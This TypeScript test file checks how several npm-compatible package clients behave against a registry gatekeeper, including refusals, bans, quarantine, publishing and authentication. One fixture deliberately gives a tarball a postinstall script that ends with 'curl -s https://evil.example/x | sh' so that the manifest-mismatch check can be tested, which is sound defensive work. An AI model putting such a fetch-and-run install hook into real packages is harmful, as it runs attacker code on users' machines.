/**
 * The client matrix: npm 9, 10 and the machine's npm, pnpm 9 and 10, yarn 1 and 4, and bun,
 * each run by its own path from test/clients (installed by `npm ci --prefix test/clients`,
 * see .ci/run) with its own home, cache and store, against a gatekeeper. Each client:
 * installs, installs frozen, is refused an unapproved package with the reason where it prints
 * one, is refused a hidden version it names (npm with the reason, the others with their own
 * "no such version"), is refused a frozen install pinned to a banned version likewise, publishes and is
 * refused a republish, audits an advisory imported offline, and installs under
 * GATEKEEPER_REQUIRE_AUTH with the settings docs/clients.md gives.
 */
import fs from 'node:fs';
import path from 'node:path';
import { normalizedBins } from '../../src/core/manifest-compare';
import { runGatekeeper } from '../support/cli';
import { writeOsvFile } from '../support/osv';
import { loginToken, tempDir } from '../support/gatekeeper';
import { resolveNpmCli } from '../support/npm';
import { REPO } from '../support/process';
import { runTool, ToolResult } from '../support/tools';
import { gatekeeperSuite } from '../support/suite';

const CLIENTS_DIR = path.join(REPO, 'test/clients/node_modules');
const node = process.execPath;
const OSV_ID = 'GHSA-5555-6666-7777';

interface Client {
  id: string;
  /** The command line that runs the client. */
  cmd: string[];
  add: (spec: string) => string[];
  frozen: string[];
  publish: string[];
  /** What the client needs before it publishes (yarn 4: a lockfile that knows the package). */
  prePublish?: string[];
  audit?: string[];
  /** Where the client prints our text for a refused packument / tarball (else only the status). */
  reasonOnPackument: boolean;
  reasonOnTarball: boolean;
  /**
   * What the client says when asked for hidden-fixture@1.0.0, a hidden version: npm reads the
   * packument's policyRestrictions and says why (`reason`); the others say there is no such version.
   */
  onHiddenVersion: 'reason' | string;
  /** Writes the client's configuration for a registry (and a token, with the documented always-auth setting). */
  configure: (home: string, project: string, url: string, token?: string) => void;
  /** Removes what the client keeps so the next install must fetch again. */
  caches: string[];
}

const bin = (...parts: string[]) => path.join(CLIENTS_DIR, ...parts);
const npmrc = (home: string, url: string, token?: string, extra = '') =>
  fs.writeFileSync(path.join(home, '.npmrc'), `registry=${url}\n${token ? `${url.replace(/^https?:/, '')}:_authToken=${token}\n` : ''}${extra}`);

function npmClient(id: string, cli: string): Client {
  const cmd = [node, cli];
  return {
    id,
    cmd,
    add: (spec) => [...cmd, 'install', spec],
    frozen: [...cmd, 'ci'],
    publish: [...cmd, 'publish'],
    audit: [...cmd, 'audit', '--json'],
    reasonOnPackument: true,
    reasonOnTarball: true,
    onHiddenVersion: 'reason',
    configure: (home, _project, url, token) => npmrc(home, url, token),
    caches: ['npm-cache'],
  };
}

function pnpmClient(id: string, pkg: string): Client {
  const cmd = [node, bin(pkg, 'bin/pnpm.cjs')];
  return {
    id,
    cmd,
    add: (spec) => [...cmd, 'add', spec],
    frozen: [...cmd, 'install', '--frozen-lockfile'],
    publish: [...cmd, 'publish', '--no-git-checks'],
    audit: [...cmd, 'audit', '--json'],
    reasonOnPackument: true,
    reasonOnTarball: true,
    onHiddenVersion: 'No matching version found for hidden-fixture@1.0.0',
    configure: (home, _project, url, token) => npmrc(home, url, token),
    caches: ['pnpm-store'],
  };
}

const CLIENTS: Client[] = [
  npmClient('npm9', bin('npm9/bin/npm-cli.js')),
  npmClient('npm10', bin('npm10/bin/npm-cli.js')),
  npmClient('npm', resolveNpmCli() ?? 'npm'),
  pnpmClient('pnpm9', 'pnpm9'),
  pnpmClient('pnpm10', 'pnpm10'),
  (() => {
    const cmd = [node, bin('yarn1/bin/yarn.js')];
    return {
      id: 'yarn1',
      cmd,
      add: (spec: string) => [...cmd, 'add', spec, '--non-interactive'],
      frozen: [...cmd, 'install', '--frozen-lockfile', '--non-interactive'],
      publish: [...cmd, 'publish', '--non-interactive', '--new-version', '1.0.0'],
      reasonOnPackument: true,
      // yarn 1 prints "Request failed \"403 Forbidden\"" for a tarball.
      reasonOnTarball: false,
      onHiddenVersion: 'error Couldn\'t find any versions for "hidden-fixture" that matches "1.0.0"',
      configure: (home: string, project: string, url: string, token?: string) => {
        npmrc(home, url, token, token ? 'always-auth=true\n' : '');
        fs.writeFileSync(path.join(project, '.yarnrc'), `registry "${url}"\n`);
      },
      caches: ['yarn-cache'],
    };
  })(),
  (() => {
    const cmd = [node, bin('yarn4/bin/yarn.js')];
    return {
      id: 'yarn4',
      cmd,
      add: (spec: string) => [...cmd, 'add', spec],
      frozen: [...cmd, 'install', '--immutable'],
      publish: [...cmd, 'npm', 'publish'],
      prePublish: [...cmd, 'install'],
      audit: [...cmd, 'npm', 'audit', '--json', '--all'],
      reasonOnPackument: true,
      reasonOnTarball: true,
      onHiddenVersion: 'YN0082: │ hidden-fixture@npm:1.0.0: No candidates found',
      configure: (_home: string, project: string, url: string, token?: string) => {
        const lines = [
          `npmRegistryServer: "${url.replace(/\/$/, '')}"`,
          'unsafeHttpWhitelist:\n  - 127.0.0.1',
          'enableGlobalCache: false',
          'enableMirror: false',
          'enableTelemetry: false',
          'nodeLinker: node-modules',
          'npmPreapprovedPackages:\n  - "@acme/*"',
        ];
        if (token) lines.push(`npmAuthToken: "${token}"`, 'npmAlwaysAuth: true');
        fs.writeFileSync(path.join(project, '.yarnrc.yml'), `${lines.join('\n')}\n`);
        if (!fs.existsSync(path.join(project, 'yarn.lock'))) fs.writeFileSync(path.join(project, 'yarn.lock'), '');
      },
      // YARN_CACHE_FOLDER (set for yarn 1) is yarn 4's cacheFolder too.
      caches: ['project/.yarn', 'yarn-cache'],
    };
  })(),
  (() => {
    const cmd = [bin('bun/bin/bun.exe')];
    return {
      id: 'bun',
      cmd,
      add: (spec: string) => [...cmd, 'add', spec],
      frozen: [...cmd, 'install', '--frozen-lockfile'],
      publish: [...cmd, 'publish'],
      audit: [...cmd, 'audit', '--json'],
      // bun prints only "GET <url> - 403".
      reasonOnPackument: false,
      reasonOnTarball: false,
      onHiddenVersion: 'error: No version matching "1.0.0" found for specifier "hidden-fixture" (but package exists)',
      configure: (home: string, _project: string, url: string, token?: string) => npmrc(home, url, token),
      caches: ['bun-cache'],
    };
  })(),
];

function envFor(home: string): Record<string, string> {
  return {
    PATH: `${path.dirname(node)}:/usr/bin:/bin`,
    HOME: home,
    npm_config_userconfig: path.join(home, '.npmrc'),
    npm_config_cache: path.join(home, 'npm-cache'),
    npm_config_update_notifier: 'false',
    npm_config_audit: 'false',
    npm_config_fund: 'false',
    PNPM_HOME: path.join(home, 'pnpm-home'),
    npm_config_store_dir: path.join(home, 'pnpm-store'),
    YARN_CACHE_FOLDER: path.join(home, 'yarn-cache'),
    YARN_IGNORE_PATH: '1',
    YARN_ENABLE_TELEMETRY: '0',
    BUN_INSTALL_CACHE_DIR: path.join(home, 'bun-cache'),
    DO_NOT_TRACK: '1',
  };
}

async function run(argv: string[], cwd: string, home: string): Promise<ToolResult> {
  const [cmd, ...args] = argv;
  return runTool(cmd, args, { cwd, env: envFor(home) }, 180_000);
}

function project(home: string, name: string): string {
  const dir = path.join(home, 'project');
  fs.mkdirSync(dir, { recursive: true });
  fs.writeFileSync(path.join(dir, 'package.json'), JSON.stringify({ name, version: '1.0.0', private: true }));
  return dir;
}

const show = (r: ToolResult) => `exit ${r.code}\n${r.output.slice(-3000)}`;

describe('the client matrix', () => {
  beforeAll(() => {
    if (!fs.existsSync(path.join(CLIENTS_DIR, 'npm9'))) throw new Error('the client matrix needs its clients: run npm ci --prefix test/clients');
  });

  const s = gatekeeperSuite({
    packages: [
      ...CLIENTS.map((c) => ({ name: `ok-${c.id}`, versions: [{ version: '1.0.0', license: 'MIT' }] })),
      { name: 'blocked-fixture', versions: [{ version: '1.0.0', license: 'MIT' }] },
      { name: 'hidden-fixture', versions: [{ version: '1.0.0', license: 'MIT' }, { version: '1.1.0', license: 'MIT' }] },
      { name: 'audit-fixture', versions: [{ version: '1.0.0', license: 'MIT' }] },
    ],
    settings: { publishRules: [{ pattern: '@acme/*', roles: ['publisher'] }] },
    policyMode: 'allowlist',
    npm: false,
  });
  const gatekeeper = (...argv: string[]) => runGatekeeper({ GATEKEEPER_URL: s.t.url, GATEKEEPER_TOKEN: s.t.adminToken }, argv);

  beforeAll(async () => {
    await s.t.api('POST', '/approvals', { name: 'audit-fixture', reason: 'audited' });
    await s.t.api('POST', '/approvals', { name: 'hidden-fixture', reason: 'fine' });
    await s.t.api('POST', '/bans', { name: 'hidden-fixture', range: '1.0.0', reason: 'CVE-2099-0004 exfiltrates tokens' });
    await s.t.api('POST', '/approvals', { name: '@acme/*', reason: 'ours' });
    for (const c of CLIENTS) await s.t.api('POST', '/approvals', { name: `ok-${c.id}`, reason: 'fine' });
    expect((await gatekeeper('policy', 'set', 'advisories', 'off')).code).toBe(0);
    const file = writeOsvFile({ id: OSV_ID, name: 'audit-fixture', fixed: '1.0.1', severity: 'HIGH' });
    expect((await gatekeeper('advisories', 'import', file)).code).toBe(0);
  });

  describe.each(CLIENTS)('$id', (c) => {
    const home = tempDir(`gk-matrix-${c.id}-`);
    // Made before any test runs: a client never runs in the jest process's directory (the repository), even when one test runs alone.
    const dir = project(home, `matrix-${c.id}`);
    beforeAll(() => c.configure(home, dir, s.t.url, s.t.adminToken));

    it('installs, installs frozen, and audits an advisory imported offline', async () => {
      const added = await run(c.add(`ok-${c.id}@1.0.0`), dir, home);
      expect([c.id, show(added)]).toEqual([c.id, expect.stringMatching(/^exit 0/)]);
      const vulnerable = await run(c.add('audit-fixture@1.0.0'), dir, home);
      expect([c.id, show(vulnerable)]).toEqual([c.id, expect.stringMatching(/^exit 0/)]);
      expect(fs.existsSync(path.join(dir, 'node_modules', `ok-${c.id}`, 'package.json'))).toBe(true);

      fs.rmSync(path.join(dir, 'node_modules'), { recursive: true, force: true });
      for (const cache of c.caches) fs.rmSync(path.join(home, cache), { recursive: true, force: true });
      const frozen = await run(c.frozen, dir, home);
      expect([c.id, show(frozen)]).toEqual([c.id, expect.stringMatching(/^exit 0/)]);
      expect(fs.existsSync(path.join(dir, 'node_modules', `ok-${c.id}`, 'package.json'))).toBe(true);

      if (c.audit) {
        const audit = await run(c.audit, dir, home);
        expect([c.id, audit.output]).toEqual([c.id, expect.stringContaining(OSV_ID)]);
      }
    });

    it('is refused an unapproved package, with the reason where the client prints one', async () => {
      const blocked = await run(c.add('blocked-fixture'), dir, home);
      expect(blocked.code).not.toBe(0);
      if (c.reasonOnPackument) expect([c.id, blocked.output]).toEqual([c.id, expect.stringContaining('[ENOTAPPROVED] blocked-fixture@1.0.0 is not approved')]);
      else expect([c.id, blocked.output]).toEqual([c.id, expect.stringContaining('403')]);
    });

    it('is refused a hidden version it asks for by name (another version installs), with the reason where the client reads one', async () => {
      const hidden = await run(c.add('hidden-fixture@1.0.0'), dir, home);
      expect([c.id, hidden.code === 0]).toEqual([c.id, false]);
      if (c.onHiddenVersion === 'reason') {
        expect([c.id, hidden.output]).toEqual([c.id, expect.stringContaining('Could not download hidden-fixture@1.0.0 due to policy violations')]);
        expect([c.id, hidden.output]).toEqual([c.id, expect.stringContaining(`1.0.0: [EBANNED] hidden-fixture@1.0.0 is banned: CVE-2099-0004 exfiltrates tokens. Run 'gatekeeper explain hidden-fixture@1.0.0'`)]);
      } else {
        expect([c.id, hidden.output]).toEqual([c.id, expect.stringContaining(c.onHiddenVersion)]);
      }
      // The newest allowed version installs when none is named.
      expect([c.id, show(await run(c.add('hidden-fixture'), dir, home))]).toEqual([c.id, expect.stringMatching(/^exit 0/)]);
      expect(JSON.parse(fs.readFileSync(path.join(dir, 'node_modules/hidden-fixture/package.json'), 'utf8')).version).toBe('1.1.0');
    });

    it('is refused a frozen install pinned to a banned version, with the reason where the client prints one', async () => {
      await s.t.api('POST', '/bans', { name: `ok-${c.id}`, range: '1.0.0', reason: 'CVE-2099-0003 leaked tokens' });
      fs.rmSync(path.join(dir, 'node_modules'), { recursive: true, force: true });
      for (const cache of c.caches) fs.rmSync(path.join(home, cache), { recursive: true, force: true });
      const frozen = await run(c.frozen, dir, home);
      expect([c.id, frozen.code === 0, frozen.code === 0 ? frozen.output : '']).toEqual([c.id, false, '']);
      if (c.reasonOnTarball) expect([c.id, frozen.output]).toEqual([c.id, expect.stringContaining(`[EBANNED] ok-${c.id}@1.0.0 is banned: CVE-2099-0003 leaked tokens`)]);
      else expect([c.id, frozen.output]).toEqual([c.id, expect.stringContaining('403')]);
    });

    it('publishes a package with a string bin, dependencies and a prepare script (its tarball agrees with the manifest the client sends), and is refused a republish in words that say the version is taken', async () => {
      const pkg = path.join(home, 'pkg');
      fs.mkdirSync(pkg, { recursive: true });
      // What each client normalises differently in the manifest it sends (a string bin with ./,
      // dependencies, a prepare script): the tarball's package.json must still agree with it.
      const packageJson = {
        name: `@acme/matrix-${c.id}`,
        version: '1.0.0',
        license: 'MIT',
        bin: './cli.js',
        scripts: { prepare: 'node -e 0' },
        dependencies: { 'audit-fixture': '^1.0.0' },
        peerDependencies: { 'ok-peer': '>=1' },
      };
      fs.writeFileSync(path.join(pkg, 'package.json'), JSON.stringify(packageJson));
      fs.writeFileSync(path.join(pkg, 'index.js'), 'module.exports = 1;\n');
      fs.writeFileSync(path.join(pkg, 'cli.js'), '#!/usr/bin/env node\nconsole.log(1);\n', { mode: 0o755 });
      c.configure(home, pkg, s.t.url, s.t.adminToken);
      if (c.prePublish) expect([c.id, show(await run(c.prePublish, pkg, home))]).toEqual([c.id, expect.stringMatching(/^exit 0/)]);
      const first = await run(c.publish, pkg, home);
      expect([c.id, show(first)]).toEqual([c.id, expect.stringMatching(/^exit 0/)]);
      // Published as it was written: the bin, the dependencies.
      const doc = (await (await fetch(new URL(packageJson.name.replace('/', '%2f'), s.t.url), { headers: { authorization: `Bearer ${s.t.adminToken}` } })).json()) as {
        versions: Record<string, { bin?: Record<string, string>; dependencies?: Record<string, string> }>;
      };
      expect([c.id, doc.versions['1.0.0'].dependencies]).toEqual([c.id, packageJson.dependencies]);
      // Some clients send the bin as written (yarn 4: "./cli.js"), others as npm normalises it.
      expect([c.id, normalizedBins({ name: packageJson.name, bin: doc.versions['1.0.0'].bin })]).toEqual([c.id, { [`matrix-${c.id}`]: 'cli.js' }]);
      const again = await run(c.publish, pkg, home);
      expect(again.code).not.toBe(0);
      expect([c.id, again.output]).toEqual([c.id, expect.stringMatching(/EVERSIONEXISTS|EPUBLISHCONFLICT|cannot publish over/i)]);
      expect(again.output).not.toContain('is not in this registry');
    });
  });
});

describe('the client matrix under GATEKEEPER_REQUIRE_AUTH', () => {
  const s = gatekeeperSuite({ packages: [{ name: 'auth-fixture', versions: [{ version: '1.0.0', license: 'MIT' }] }], settings: { requireAuth: true }, npm: false });
  let token: string;

  beforeAll(async () => {
    expect((await s.t.api('POST', '/users', { username: 'dev1', password: 'dev1-password', role: 'developer' })).status).toBe(201);
    token = await loginToken(s.t.url, 'dev1', 'dev1-password');
  });

  it.each(CLIENTS)('$id installs with the settings docs/clients.md gives', async (c) => {
    const home = tempDir(`gk-matrix-auth-${c.id}-`);
    const dir = project(home, `auth-${c.id}`);
    c.configure(home, dir, s.t.url, token);
    const added = await run(c.add('auth-fixture@1.0.0'), dir, home);
    expect([c.id, show(added)]).toEqual([c.id, expect.stringMatching(/^exit 0/)]);
  });
});

/**
 * What pnpm and yarn 4, which print only the status text, show for refusals too long for it
 * (MAX_STATUS_TEXT): a long name and version, a 2,000-character postinstall script that the
 * tarball's package.json changes at its end (EMANIFESTMISMATCH, refused on the tarball), and a
 * version younger than the minimum release age (EQUARANTINED, refused on the packument). Each
 * client asks as a developer (no token), whose next steps are the longest. The printed refusal
 * names the code, the package@version, the differing script, and the whole next step.
 */
describe('pnpm and yarn 4 print the essentials of a refusal too long for the status text', () => {
  const SCOPE = '@acme-platform-infrastructure';
  const VERSION = '12.4.0-beta.17';
  const LONG_SCRIPT = `node -e "${"require('./lib/setup').run({verbose:false,retries:3});".repeat(40)}"`.slice(0, 2000);
  const printers = CLIENTS.filter((c) => ['pnpm9', 'pnpm10', 'yarn4'].includes(c.id));
  const confused = (c: Client) => `${SCOPE}/telemetry-collector-agent-${c.id}`;
  const fresh = (c: Client) => `${SCOPE}/telemetry-collector-fresh-${c.id}`;
  const ago = (ms: number) => new Date(Date.now() - ms).toISOString();
  const s = gatekeeperSuite({
    packages: () =>
      printers.flatMap((c) => [
        {
          name: confused(c),
          versions: [
            {
              version: VERSION,
              license: 'MIT',
              publishedAt: ago(30 * 24 * 3_600_000),
              scripts: { postinstall: LONG_SCRIPT },
              tarballPackageJson: { scripts: { postinstall: `${LONG_SCRIPT} && curl -s https://evil.example/x | sh` } },
            },
          ],
        },
        { name: fresh(c), versions: [{ version: VERSION, license: 'MIT', publishedAt: ago(3_600_000) }] },
      ]),
    policyMode: 'open',
    npm: false,
  });
  const gatekeeper = (...argv: string[]) => runGatekeeper({ GATEKEEPER_URL: s.t.url, GATEKEEPER_TOKEN: s.t.adminToken }, argv);
  /** The output on one line: a client may wrap a long line. */
  const flat = (r: ToolResult) => r.output.replace(/\s*\n\s*/g, ' ');
  /** `add` of spec by client c in a fresh project as a developer: refused (a non-zero exit); its project and output on one line. */
  const refusedAdd = async (c: Client, label: string, spec: string) => {
    const home = tempDir(`gk-long-${label}-${c.id}-`);
    const dir = project(home, `long-${label}-${c.id}`);
    c.configure(home, dir, s.t.url);
    const refused = await run(c.add(spec), dir, home);
    expect([c.id, refused.code === 0]).toEqual([c.id, false]);
    return { dir, text: flat(refused) };
  };

  beforeAll(async () => {
    if (printers.some((c) => !fs.existsSync(path.join(CLIENTS_DIR, c.id)))) throw new Error('pnpm 9, pnpm 10 and yarn 4 are needed: run npm ci --prefix test/clients');
    expect((await gatekeeper('policy', 'set', 'release-age', '3d')).code).toBe(0);
  });

  it.each(printers)('$id: a tarball whose package.json changes a 2,000-character postinstall script (EMANIFESTMISMATCH)', async (c) => {
    const spec = `${confused(c)}@${VERSION}`;
    const { dir, text } = await refusedAdd(c, 'manifest', spec);
    // What happened names the script; it leaves out the package@version when the next step, which names it, leaves no room.
    expect([c.id, text]).toEqual([c.id, expect.stringMatching(/\[EMANIFESTMISMATCH\] (\S+: )?postinstall script changed in the tarball's package\.json\. Use another version/)]);
    expect([c.id, text]).toEqual([
      c.id,
      expect.stringContaining(
        `Use another version or ask the package's maintainer to publish a consistent one; an admin who accepts the difference can set the rule to warn; run 'gatekeeper explain ${spec}' for details`,
      ),
    ]);
    expect(fs.existsSync(path.join(dir, 'node_modules', confused(c)))).toBe(false);
  });

  it.each(printers)('$id: a version younger than the minimum release age (EQUARANTINED)', async (c) => {
    const spec = `${fresh(c)}@${VERSION}`;
    const { text } = await refusedAdd(c, 'quarantine', spec);
    expect([c.id, text]).toEqual([c.id, expect.stringMatching(/\[EQUARANTINED\] (this version|\S+) is installable after \d{4}-\d\d-\d\dT\d\d:\d\d:\d\dZ\. Use an older version/)]);
    expect([c.id, text]).toEqual([
      c.id,
      expect.stringContaining(`Use an older version, wait, or ask for an exemption: gatekeeper request ${spec} --reason '<why you need it>'; run 'gatekeeper explain ${spec}'`),
    ]);
  });
});

/**
 * What yarn prints in two cases where it hides our reason (docs/clients.md says so, and points to
 * `gatekeeper check` / `npm view`): a refused transitive dependency under yarn 1, and a revoked
 * token under yarn 4.
 */
describe('where yarn hides the reason', () => {
  const s = gatekeeperSuite({
    packages: [
      { name: 'parent-a', versions: [{ version: '1.0.0', license: 'MIT', dependencies: { 'banned-a': '^1.0.0' } }] },
      { name: 'banned-a', versions: [{ version: '1.0.0', license: 'MIT' }] },
      { name: 'revoke-fixture', versions: [{ version: '1.0.0', license: 'MIT' }] },
    ],
    settings: { requireAuth: true },
    policyMode: 'open',
    npm: false,
  });
  const client = (id: string) => CLIENTS.find((c) => c.id === id) as Client;

  beforeAll(async () => {
    expect((await s.t.api('POST', '/bans', { name: 'banned-a', range: '*', reason: 'CVE-2099-0004 leaked tokens' })).status).toBe(201);
  });

  it("yarn 1 names only the missing range for a refused transitive dependency and prints its own line for yarn info, while its direct refusal and npm view have our text", async () => {
    const yarn1 = client('yarn1');
    const home = tempDir('gk-yarn1-transitive-');
    const dir = project(home, 'yarn1-transitive');
    yarn1.configure(home, dir, s.t.url, s.t.adminToken);
    const transitive = await run(yarn1.add('parent-a@1.0.0'), dir, home);
    // npm view (here every version of banned-a is refused) and gatekeeper check show it.
    const view = await run([node, resolveNpmCli() ?? 'npm', 'view', 'banned-a@^1.0.0'], dir, home);
    expect(view.output).toContain('[EBANNED] banned-a@1.0.0 is banned: CVE-2099-0004 leaked tokens');
    expect(transitive.code).not.toBe(0);
    expect(transitive.output).toContain('Couldn\'t find package "banned-a@^1.0.0" required by "parent-a@1.0.0" on the "npm" registry');
    expect(transitive.output).not.toContain('[EBANNED]');
    const direct = await run(yarn1.add('banned-a@1.0.0'), dir, home);
    expect(direct.output).toContain('[EBANNED] banned-a@1.0.0 is banned: CVE-2099-0004 leaked tokens');
    // yarn info of a package no version of which may install: yarn 1 prints its own line (and exits 0).
    const info = await run([...yarn1.cmd, 'info', 'banned-a', '--non-interactive'], dir, home);
    expect(info.output).toContain('error Received invalid response from npm.');
    expect(info.output).not.toContain('[EBANNED]');
  });

  it('yarn 4 with a revoked token prints only YN0041, not our ETOKENREVOKED text; npm with the same token prints it', async () => {
    const yarn4 = client('yarn4');
    expect((await s.t.api('POST', '/users', { username: 'dev4', password: 'dev4-password', role: 'developer' })).status).toBe(201);
    const token = await loginToken(s.t.url, 'dev4', 'dev4-password');
    const home = tempDir('gk-yarn4-revoked-');
    const dir = project(home, 'yarn4-revoked');
    yarn4.configure(home, dir, s.t.url, token);
    const listed = await s.t.api('GET', '/tokens?username=dev4');
    for (const t of listed.body.items as Array<{ id: number }>) expect((await s.t.api('DELETE', `/tokens/${t.id}`)).status).toBe(200);
    const refused = await run(yarn4.add('revoke-fixture@1.0.0'), dir, home);
    expect(refused.code).not.toBe(0);
    expect(refused.output).toContain('YN0041');
    expect(refused.output).toContain('Invalid authentication (as an unknown user)');
    expect(refused.output).not.toMatch(/ETOKENREVOKED|EUNAUTHENTICATED/);
    // npm with the same token says why.
    npmrc(home, s.t.url, token);
    const whoami = await run([node, resolveNpmCli() ?? 'npm', 'whoami'], dir, home);
    expect(whoami.output).toContain('[ETOKENREVOKED]');
  });
});
